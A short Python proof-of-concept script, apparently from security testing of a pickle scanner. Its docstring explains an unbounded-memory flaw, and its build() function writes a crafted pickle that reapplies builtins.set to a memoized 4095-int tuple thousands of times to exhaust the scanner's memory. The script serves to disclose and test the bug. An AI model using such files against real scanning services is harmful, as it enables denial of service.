"""s3: the value pass keeps every converted argument tree forever (graph.rs `Node::Built`
holds `Rc<Value>` of up to MAX_NODES = 4096 values), and an application through the memo costs
6 bytes of file (`h\\0 h\\1 R 0`). `max_values` bounds arena nodes, not the Values they own, so a
small file makes the scanner use gigabytes (and billions of conversion steps).

`builtins.set` (pack ml, items-from-literals) applied REPS times to one memoized tuple holding
a list of 4095 ints. The load is harmless (each set is dropped at once): the scan must be
bounded and is not.
"""
import os
import struct
import sys

REPS = int(os.environ.get("S3_REPS", "3000"))


def build(path, reps=None):
    reps = REPS if reps is None else reps
    out = bytearray(b"\x80\x02cbuiltins\nset\nq\x00")
    out += b"(]q\x02("  # MARK, list (memo 2), MARK
    for i in range(4095):
        out += b"J" + struct.pack("<i", i)
    out += b"e"  # APPENDS
    out += b"tq\x01"  # TUPLE (memo 1) = ([0..4094],)
    out += b"R0"
    out += b"h\x00h\x01R0" * reps
    out += b"N."
    with open(path, "wb") as f:
        f.write(out)


if __name__ == "__main__" and sys.argv[1] == "build":
    build(sys.argv[2])
